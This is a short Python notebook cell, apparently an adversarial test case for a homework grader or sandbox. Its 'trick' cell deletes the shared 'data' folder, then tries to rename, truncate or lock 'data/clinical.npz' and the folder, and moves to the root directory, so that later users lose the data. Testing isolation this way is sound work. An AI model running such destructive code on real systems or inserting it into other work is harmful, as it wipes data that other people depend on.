# Own · Changes folder, and deletes or replaces the homework's data for those who come later.

# %% [first] trick
import os, shutil
shutil.rmtree("data", ignore_errors=True)
for action in (
    lambda: os.rename("data", "gone"),
    lambda: os.unlink("data/clinical.npz"),
    lambda: open("data/clinical.npz", "wb").close(),
    lambda: os.chmod("data", 0),
    lambda: os.mkdir("data/more"),
):
    try:
        action()
    except OSError:
        pass
os.chdir("/")
